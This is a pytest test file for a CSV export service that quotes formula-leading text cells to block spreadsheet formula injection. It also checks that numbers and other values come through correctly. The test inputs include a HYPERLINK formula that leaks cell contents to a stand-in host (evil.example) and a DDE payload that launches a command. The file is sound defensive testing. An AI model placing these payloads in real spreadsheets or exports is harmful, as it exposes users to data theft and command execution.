"""CSV exports neutralise formula-leading text cells and keep numbers numeric."""

from __future__ import annotations

import csv
import io

import pytest

from app.services.csv_export import csv_document, spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-1",  # text, even though it reads as a number: only numbers are written bare
    ],
)
def test_formula_leading_text_is_quoted(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-1, -0.25, 0, 3, 0.5, 1e-9])
def test_numbers_stay_numbers(value: float) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), (True, "True"), ("spheres", "spheres"), ("a=b", "a=b"), ("", "")],
)
def test_other_cells(value: object, cell: str) -> None:
    assert spreadsheet_safe(value) == cell


def test_a_document_reads_back_with_every_cell_safe() -> None:
    text = csv_document(
        ["method", "team", "delta"],
        [["=1+1", "@SUM(A1:A9)", -0.5], ['x,"y"\n=z', "\rteam", 2], ["x\r=1+1", "t", 1]],
    )
    assert '"x\r=1+1"' in text  # a bare CR would end the row: the cell is quoted
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["method", "team", "delta"],
        ["'=1+1", "'@SUM(A1:A9)", "-0.5"],
        ['x,"y"\n=z', "'\rteam", "2"],
        ["x\r=1+1", "t", "1"],
    ]
